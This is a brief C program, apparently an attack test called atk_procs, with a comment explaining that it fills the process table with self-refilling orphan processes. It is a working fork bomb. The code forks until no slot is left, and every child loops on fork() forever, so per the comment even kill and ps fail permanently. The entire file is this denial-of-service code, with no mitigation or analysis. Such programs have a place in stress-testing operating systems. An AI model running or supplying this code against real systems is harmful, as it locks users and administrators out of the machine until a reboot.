/*
 * atk_procs: fill the process table with orphans, then exit.  Each
 * orphan forks again as soon as a slot is free, so the table stays
 * full.  Nothing reserves a slot for the shell or for
 * init, and kill is not a builtin: from now on every command fails with
 * "no free process", kill and ps among them, for good.
 */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void
refill(void)
{
	for(;;)
		fork();		/* parent and child both go on refilling */
}

int
main(void)
{
	int n, pid;

	for(n = 0; (pid = fork()) >= 0; n++)
		if(pid == 0)
			refill();
	printf("atk_procs: %d orphans left behind\n", n);
	return 0;
}
